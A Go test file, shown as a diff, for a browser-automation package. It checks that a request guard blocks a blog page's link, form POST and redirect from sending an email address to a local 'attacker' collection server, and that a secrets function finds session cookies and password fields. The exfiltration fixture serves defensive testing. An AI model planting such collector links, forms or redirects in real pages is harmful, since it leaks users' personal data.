@@ -1,0 +1,150 @@
+package browser
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+)
+
+// guardSites is a blog on one origin whose links, form and redirect lead
+// to an attacker on another origin, which counts what reaches it.
+func guardSites(t *testing.T) (blog *httptest.Server, hits *atomic.Int32) {
+	t.Helper()
+	hits = new(atomic.Int32)
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hits.Add(1)
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<!doctype html><title>Got it</title><p>collected</p>`)
+	}))
+	t.Cleanup(attacker.Close)
+	// localhost, not 127.0.0.1: another origin, as a browser sees it.
+	away := strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><title>Blog</title>
+<a id="out" href="%[1]s/collect?e=ada@example.com">Read more</a>
+<a id="hop" href="/go">Sponsor</a>
+<a id="in" href="/post">Next post</a>
+<form method="post" action="%[1]s/collect"><input name="email" aria-label="Email"><button>Subscribe</button></form>`, away)
+	})
+	mux.HandleFunc("/go", func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, away+"/collect?via=redirect", http.StatusFound)
+	})
+	mux.HandleFunc("/post", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<!doctype html><title>Post</title><p>second post</p>`)
+	})
+	blog = httptest.NewServer(mux)
+	t.Cleanup(blog.Close)
+	return blog, hits
+}
+
+// TestGuardHoldsDocumentRequests: a click on a link, a form's POST and a
+// redirect's hop are each held for the check; a refused one never
+// reaches the server and the page stays; an allowed one goes on.
+func TestGuardHoldsDocumentRequests(t *testing.T) {
+	t.Parallel()
+	blog, hits := guardSites(t)
+	ctx := tctx(t)
+	tab, err := testBrowser.Open(ctx, blog.URL+"/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { tab.Close(context.Background()) })
+	var mu sync.Mutex
+	var seen []Request
+	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error {
+		mu.Lock()
+		seen = append(seen, r)
+		mu.Unlock()
+		if strings.Contains(r.URL, "localhost") {
+			return errors.New("off the sites")
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stop()
+	obs, err := tab.Observe(ctx, ObserveOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"Read more", "Sponsor"} {
+		if _, err := tab.Click(ctx, find(t, obs, "link", name).Ref); err != nil {
+			t.Fatalf("click %s: %v", name, err)
+		}
+	}
+	if _, err := tab.Type(ctx, find(t, obs, "textbox", "Email").Ref, "ada@example.com", true); err != nil {
+		t.Fatal(err)
+	}
+	if n := hits.Load(); n != 0 {
+		t.Fatalf("the attacker got %d requests", n)
+	}
+	if u := eval[string](t, tab, "location.href"); u != blog.URL+"/" {
+		t.Fatalf("the page left for %s", u)
+	}
+	mu.Lock()
+	var post, redirect bool
+	for _, r := range seen {
+		post = post || (r.Method == "POST" && r.Body == "email=ada%40example.com")
+		redirect = redirect || (r.Redirect && strings.Contains(r.URL, "via=redirect"))
+	}
+	mu.Unlock()
+	if !post || !redirect {
+		t.Fatalf("held requests %+v: want the form's POST with its body and the redirect's hop", seen)
+	}
+	obs, err = tab.Observe(ctx, ObserveOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	res, err := tab.Click(ctx, find(t, obs, "link", "Next post").Ref)
+	if err != nil || !res.Navigated {
+		t.Fatalf("an allowed navigation: %+v, %v", res, err)
+	}
+	stop()
+	stop() // twice is fine
+}
+
+func TestSecretsCookiesAndMaskedFields(t *testing.T) {
+	t.Parallel()
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		http.SetCookie(w, &http.Cookie{Name: "session", Value: "s3cr3t-session", Path: "/"})
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<!doctype html><input type="password" value="hunter22"><input name="q" value="public">`)
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	ctx := tctx(t)
+	tab, err := testBrowser.Open(ctx, srv.URL+"/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { tab.Close(context.Background()) })
+	got, err := tab.Secrets(ctx, []string{strings.TrimPrefix(srv.URL, "http://")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]bool{"s3cr3t-session": false, "hunter22": false}
+	for _, s := range got {
+		if _, ok := want[s.Value]; ok {
+			want[s.Value] = true
+		}
+		if s.Value == "public" {
+			t.Errorf("an ordinary field's value is a secret: %+v", s)
+		}
+	}
+	for v, ok := range want {
+		if !ok {
+			t.Errorf("%q not among %+v", v, got)
+		}
+	}
+}
